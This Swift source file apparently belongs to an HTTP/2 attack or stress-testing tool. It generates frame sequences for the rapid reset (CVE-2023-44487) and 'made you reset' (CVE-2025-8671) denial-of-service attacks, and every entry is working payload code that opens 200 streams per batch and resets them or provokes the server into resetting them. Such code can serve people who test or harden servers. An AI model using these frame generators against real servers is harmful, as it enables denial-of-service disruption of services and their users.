/// Streams that are opened only to be reset, by the client (CVE-2023-44487) or by the server, which is made to (CVE-2025-8671).
extension Attack {
  static func streams(_ door: Door) -> [Attack] {
    let request = Frames.request(door, Target.holdPath)
    let dependsOnItself: @Sendable (UInt32) -> [UInt8] = { stream in
      [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: stream >> UInt32($0)) } + [15]
    }
    /// Each stream gets one HEADERS frame and what `rest` makes of its number.
    func each(
      _ name: String, request: [UInt8] = request, endsRequest: Bool, _ rest: @escaping @Sendable (UInt32, inout [UInt8]) -> Void
    ) -> Attack {
      Attack(name, door) {
        var stream: UInt32 = 1
        return { piece in
          var bytes = piece == 0 ? Frames.opening : []
          for _ in 0..<200 {
            Frames.append(1, endsRequest ? 5 : 4, stream, request, to: &bytes)
            rest(stream, &bytes)
            stream &+= 2
          }
          return bytes
        }
      }
    }
    return [
      each("rapid reset", endsRequest: false) { Frames.append(3, 0, $0, [0, 0, 0, 8], to: &$1) },
      each("rapid reset, whole requests", endsRequest: true) { Frames.append(3, 0, $0, [0, 0, 0, 8], to: &$1) },
      each("made you reset: window overflow", endsRequest: false) { Frames.append(8, 0, $0, Frames.largestWindow, to: &$1) },
      each("made you reset: window update of 0", endsRequest: false) { Frames.append(8, 0, $0, [0, 0, 0, 0], to: &$1) },
      each("made you reset: data half-closed", endsRequest: true) { Frames.append(0, 1, $0, [1], to: &$1) },
      each("made you reset: headers half-closed", endsRequest: true) { Frames.append(1, 5, $0, request, to: &$1) },
      each("made you reset: depends on itself", endsRequest: false) { Frames.append(2, 0, $0, dependsOnItself($0), to: &$1) },
      each("made you reset: priority of 3 bytes", endsRequest: false) { Frames.append(2, 0, $0, [0, 0, 0], to: &$1) },
      each("made you reset: bad content-length", request: request + Frames.fields([("content-length", "5")]), endsRequest: false) {
        Frames.append(0, 1, $0, [1], to: &$1)
      },
      each("made you reset: trailers without an end", endsRequest: false) { Frames.append(1, 4, $0, Frames.fields([("x-late", "1")]), to: &$1) },
      Attack("made you reset: malformed request", door) {
        var stream: UInt32 = 1
        return { piece in
          var bytes = piece == 0 ? Frames.opening : []
          for _ in 0..<200 {
            Frames.append(1, 5, stream, Frames.fields([(":method", "POST"), ("Upper", "case")]), to: &bytes)
            stream &+= 2
          }
          return bytes
        }
      },
    ]
  }
}
